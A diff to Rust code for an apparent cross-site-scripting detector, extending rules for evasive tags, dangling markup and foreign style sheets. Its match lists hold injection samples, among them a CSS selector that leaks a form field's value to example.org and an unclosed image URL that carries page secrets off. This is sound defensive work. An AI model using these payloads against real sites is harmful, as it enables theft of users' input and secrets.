@@ -107,10 +107,12 @@ pub(super) static EVASIVE_MARKUP: Rule = Rule {
     cwe: 79,
     // Parsers take it and no person or program writes it, but to get past filters that look for a space.
     paranoia: Paranoia::One,
-    summary: "a tag with a slash for a space",
-    details: "Finds tags such as `<img/src=x>`: a parse error that every browser repairs, and that filters do not expect.",
-    matches: &["<img/src=x>", "<a/title='x'/href=y>"],
-    passes: &["<br/>", "<img src=/x/>", "<user/repo>", "<https://example.com/?a=b>", "</p>"],
+    summary: "markup that is written to get past filters",
+    details: "\
+Finds tags such as `<img/src=x>`: a parse error that every browser repairs, and that filters do not expect; calls among the
+names of a tag's attributes; and character references that are filled up with zeros.",
+    matches: &["x=&#000000060;b", "<img x;alert('a')>", "<img/src=x>", "<a/title='x'/href=y>"],
+    passes: &["&#x00a0;&#0039;", "#0000001", "<x alert('a')>", "<br/>", "<img src=/x/>", "<user/repo>", "<https://example.com/?a=b>", "</p>"],
 };
 
 pub(super) static DANGLING_MARKUP: Rule = Rule {
@@ -124,9 +126,10 @@ pub(super) static DANGLING_MARKUP: Rule = Rule {
     details: "\
 Finds a value that ends inside of a tag of its own, or inside of an `<svg>` or `<math>`. What the page has behind the value
 becomes part of the tag, and closes it; in SVG and MathML it is parsed by other rules, so that what a sanitizer left as text
-becomes markup. A handler that is not on the list yet may be one tomorrow.",
-    matches: &["<x onfoo=1", "hello <img src=x onsomething='a' ", "<svg><g>", "a <math>"],
-    passes: &["<svg><g></svg>", "<svg/>", "the <svg> tag", "<x onfoo=1>", "<a href=\"https://example.com/", "<b onFoo={x}", "if a <b only = 1"],
+becomes markup. A handler that is not on the list yet may be one tomorrow, and a URL that ends in an open query takes what
+follows in the page, secrets and all, to its host.",
+    matches: &["<x onfoo=1", "hello <img src=x onsomething='a' ", "<svg><g>", "a <math>", "<math><a xlink:href=//example.org/>x", "<img src='//example.org/?a="],
+    passes: &["<svg><g></svg>", "<svg/>", "the <svg> tag", "<x onfoo=1>", "<a href=\"https://example.com/", "<b onFoo={x}", "if a <b only = 1", "a <svg> with <a href=b> in it", "<img src='/?a="],
 };
 
 pub(super) static EXTERNAL_STYLE: Rule = Rule {
@@ -138,9 +141,9 @@ pub(super) static EXTERNAL_STYLE: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a value that begins with a link to a style sheet",
     details: "\
-Finds values that begin with `<link rel=stylesheet>` or with a `<style>` that imports another sheet. A foreign style sheet
-rewrites the page and reads what people type into it.",
-    matches: &["<link rel=stylesheet href=//example.org/a.css>", "\"><style>@import '//example.org/a.css'</style>"],
+Finds values that begin with `<link rel=stylesheet>` or with a `<style>` that imports another sheet, and any `<style>` that
+loads something for a field by its value. A foreign style sheet rewrites the page and reads what people type into it.",
+    matches: &["<style>input[value^=q]{background:url(//example.org/q)}</style>", "<link rel=stylesheet href=//example.org/a.css>", "\"><style>@import '//example.org/a.css'</style>"],
     passes: &[
         "<html><head><link rel=stylesheet href=a.css>",
         "<link rel=canonical href=https://example.com/>",
@@ -165,7 +168,7 @@ another site, and relative `<base>`: content of somebody else's, or what takes t
         "<p>x</p><style>@import 'a.css'</style>",
         "<form action=https://example.org/login>",
         "<p style='position:fixed;width:100%'>",
-        "<p style='content:url(a.svg)'>",
+        "<p style='background:url(a.svg)'>",
     ],
     passes: &[
         "<img src=a.png>",
@@ -245,7 +248,13 @@ impl Element {
         }
         let mut name = [0u8; 16];
         let mut length = 0;
-        for &byte in local.iter().filter(|&&byte| byte > b' ') {
+        let mut rest = local;
+        while let [byte, after @ ..] = rest {
+            // Old browsers passed over NUL; here it may still be written as an escape.
+            rest = if *byte == b'\\' { after.strip_prefix(b"0").unwrap_or(after) } else { after };
+            if *byte <= b' ' || rest.len() < after.len() {
+                continue;
+            }
             let Some(slot) = name.get_mut(length) else { return Self::Unknown };
             *slot = byte.to_ascii_lowercase();
             length += 1;
@@ -288,11 +297,20 @@ pub(super) struct Facts {
     opened_script: bool,
     /// How many `svg` and `math` elements are open.
     open_foreign: u32,
+    /// The first of them begins a line of markup and has an element with attributes in it: that is no sentence.
+    foreign_begins: bool,
+    foreign_holds: bool,
 }
 
 impl Facts {
     pub(super) const fn new(subject: &Subject<'_>) -> Self {
-        Self { holds: subject.context.holds, opened_script: false, open_foreign: 0 }
+        Self {
+            holds: subject.context.holds,
+            opened_script: false,
+            open_foreign: 0,
+            foreign_begins: false,
+            foreign_holds: false,
+        }
     }
 }
 
@@ -301,7 +319,7 @@ impl Facts {
     pub(super) fn judge_end(&self, text: &[u8], hits: &mut Hits) {
         // `the <svg> tag` is a sentence: behind a drawing that was really opened comes another tag, or nothing.
         let last = text.trim_ascii_end().last();
-        if self.open_foreign > 0 && self.holds != Some(Holds::Code) && last == Some(&b'>') {
+        if self.open_foreign > 0 && self.holds != Some(Holds::Code) && (last == Some(&b'>') || self.foreign_holds) {
             hits.add(&DANGLING_MARKUP);
         }
     }
@@ -323,8 +341,12 @@ pub(super) fn judge(
     }
     if element == Element::Foreign {
         hits.add(&FOREIGN_CONTENT);
+        let before = text.get(..at).unwrap_or_default().trim_ascii_end();
+        facts.foreign_begins = !tag.closing && matches!(before.last(), None | Some(b'>'));
+        facts.foreign_holds = false;
         facts.open_foreign = if tag.closing { 0 } else { facts.open_foreign + u32::from(!tag.closes_itself(text)) };
     }
+    facts.foreign_holds |= facts.foreign_begins && element != Element::Foreign && !tag.closing && seen.loads;
     if tag.closing {
         if element == Element::Script && !facts.opened_script {
             hits.add(if ends_a_script(text, at, after) { &SCRIPT_ELEMENT } else { &INERT_SCRIPT });
@@ -332,7 +354,8 @@ pub(super) fn judge(
         return;
     }
     let breaks_out = breaks_out(text, at);
-    if seen.unknown_handler && after.is_empty() && text.last() != Some(&b'>') {
+    let open = after.is_empty() && text.last() != Some(&b'>');
+    if open && (seen.unknown_handler || seen.open_query && matches!(text.last(), Some(b'?' | b'=' | b'&'))) {
         hits.add(&DANGLING_MARKUP);
     }
     if tag.has_solidus(text, at) && seen.any && element != Element::Unknown {
@@ -355,7 +378,7 @@ pub(super) fn judge(
             steps::count(style.len());
             if seen.script_type || css::runs_script(style.iter().copied()) {
                 hits.add(&super::attributes::CSS_SCRIPT);
-            } else if begins_text(text, at) && css::imports(style) {
+            } else if begins_text(text, at) && css::imports(style) || css::reads_fields(style) {
                 hits.add(&EXTERNAL_STYLE);
             } else if css::imports(style) {
                 hits.add(&EXTERNAL_CONTENT);
